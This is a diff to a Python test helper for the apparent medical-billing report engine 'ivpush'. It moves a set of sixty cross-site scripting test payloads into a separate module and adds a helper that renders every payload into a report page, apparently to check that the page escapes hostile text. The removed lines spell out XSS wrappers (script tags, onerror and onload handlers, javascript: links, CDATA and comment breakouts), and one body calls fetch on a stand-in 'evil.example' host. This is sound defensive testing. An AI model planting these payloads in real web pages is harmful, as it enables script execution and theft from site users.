@@ -2,17 +2,20 @@
 
 from __future__ import annotations
 
+import copy
 import json
-from collections.abc import Callable, Iterable
+from collections.abc import Iterable
+from dataclasses import replace
 from functools import cache
 from pathlib import Path
 from typing import Any
 
-from ivpush import Encounter, Result
+from ivpush import Result
 from ivpush.report import Ground, Report
 from ivpush.testing.samples import encounters as samples
 from tests.shipped import ENGINE
 from tests.timeline.visits import NIGHT, OPEN, SIX, Record, given, visit
+from tests.web.payloads import PAYLOADS
 
 ROOT = Path(__file__).resolve().parents[2]
 LITERALS = frozenset(
@@ -22,24 +25,6 @@ LITERALS = frozenset(
 DATES = frozenset(
     {"date", "in_force_on", "start", "stop", "at", "since", "release", "quarter_ends"}
 )
-
-BODIES = ("alert(1)", "print`1`", "document.title=1", "fetch('//evil.example')", "1/*")
-WRAPS: tuple[Callable[[str], str], ...] = (
-    lambda body: f"<script>{body}</script>",
-    lambda body: f"</script><script>{body}</script>",
-    lambda body: f"</title></style></textarea><script>{body}</script>",
-    lambda body: f'"><img src=x onerror="{body}">',
-    lambda body: f"'><svg onload='{body}'>",
-    lambda body: f"<svg><animate onbegin={body} attributeName=x dur=1s>",
-    lambda body: f"<iframe srcdoc='<script>{body}</script>'></iframe>",
-    lambda body: f'<a href="javascript:{body}">x</a>',
-    lambda body: f"]]><script>{body}</script><![CDATA[",
-    lambda body: f"<!--><script>{body}</script>-->",
-    lambda body: f"&lt;script&gt;{body}&#60;/script&#62;",
-    lambda body: f"\u202e\u2028<math><mtext><style><img onerror={body} src=x>",
-)
-PAYLOADS = tuple(wrap(body) for wrap in WRAPS for body in BODIES)
-"""Sixty texts that would run something, if anything took them for more than text."""
 
 BILLED = visit(
     *SIX["administrations"],
@@ -65,20 +50,12 @@ VISITS: tuple[Record, ...] = (
 )  # fmt: off
 
 
-def add(report: Report, record: Record | Encounter, *, show_text: bool = False) -> Result:
-    """Check a record and let a report take its result."""
-    work = ENGINE.work(record)
-    result = ENGINE.check(record, visit=True)
-    if show_text:
-        result = Result.from_json(result.to_json())
-    report.add(result, Ground(work.book.in_force, work.book.outdated))
-    return result
-
-
 def report_of(records: Iterable[Record]) -> Report:
     report = Report({rule.id: rule.name for rule in ENGINE.pack.rules_by_word.values()})
     for record in records:
-        add(report, record)
+        work = ENGINE.work(record)
+        result = replace(work.result, visit=work.visit())
+        report.add(result, Ground(work.book.in_force, work.book.outdated))
     return report
 
 
@@ -111,10 +88,25 @@ def replaced(data: Any, text: str, key: str = "") -> Any:
     return text
 
 
+@cache
+def _plain() -> dict[str, Any]:
+    """A result with something of every kind in it."""
+    record = BILLED | {"administrations": OPEN["administrations"]}
+    return ENGINE.check(record, visit=True).to_dict()
+
+
+@cache
+def attacked() -> str:
+    """A page in which every payload stands wherever a text may stand."""
+    report = Report()
+    for text in PAYLOADS:
+        report.add(hostile(text))
+    return "".join(report.pages())
+
+
 def hostile(text: str) -> Result:
     """A result with a text wherever a chart, a claim or a pack could have put it."""
-    result = ENGINE.check(BILLED | {"administrations": OPEN["administrations"]}, visit=True)
-    plain = result.to_dict()
+    plain = copy.deepcopy(_plain())
     lines = [plain["visit"].pop("lines"), plain.pop("corrected")]
     again = replaced(plain, text)
     # Codes and modifiers of a claim are held to their form wherever they are read.
